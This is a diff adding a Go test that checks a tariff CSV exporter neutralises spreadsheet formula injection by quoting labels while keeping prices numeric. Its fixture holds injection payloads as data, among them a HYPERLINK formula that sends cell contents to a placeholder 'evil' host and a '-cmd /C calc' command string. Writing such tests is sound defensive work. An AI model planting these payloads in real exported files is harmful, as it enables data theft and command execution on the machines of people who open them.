@@ -113,3 +113,32 @@ func TestTariffsCSVEveryPrice(t *testing.T) {
 		t.Errorf("csv:\n%s\nwant:\n%s", b.String(), want)
 	}
 }
+
+// TestTariffsCSVInert: a label a spreadsheet would run as a formula is
+// written as text; the prices stay numbers, a negative one included.
+func TestTariffsCSVInert(t *testing.T) {
+	const table = "## Annexe 1\n\n| Code | Libellé | Tarif |\n|---|---|---|\n" +
+		"| G | =HYPERLINK(\"http://evil/?\"&A1,\"clic\") | 30 € |\n" +
+		"| GS | @SUM(1+1)*cmd | %s |\n" +
+		"| APC | -cmd /C calc | 56,50 € |\n" +
+		"| CS | Consultation | 30 € |\n"
+	g := tariff.Build([]tariff.Version{
+		{Label: "=v1", Doc: clause.Parse(strings.Replace(table, "%s", "30 €", 1))},
+		{Label: "v2", Doc: clause.Parse(strings.Replace(table, "%s", "- 5 €", 1))},
+	})
+	var b bytes.Buffer
+	if err := tariffsCSV(&b, g); err != nil {
+		t.Fatal(err)
+	}
+	for _, want := range []string{
+		"code,label,'=v1,v2\n",
+		`G,"'=HYPERLINK(""http://evil/?""&A1,""clic"")",30,30` + "\n",
+		"GS,'@SUM(1+1)*cmd,30,-5\n",
+		"APC,'-cmd /C calc,56.5,56.5\n",
+		"CS,Consultation,30,30\n",
+	} {
+		if !strings.Contains(b.String(), want) {
+			t.Errorf("csv lacks %q:\n%s", want, b.String())
+		}
+	}
+}
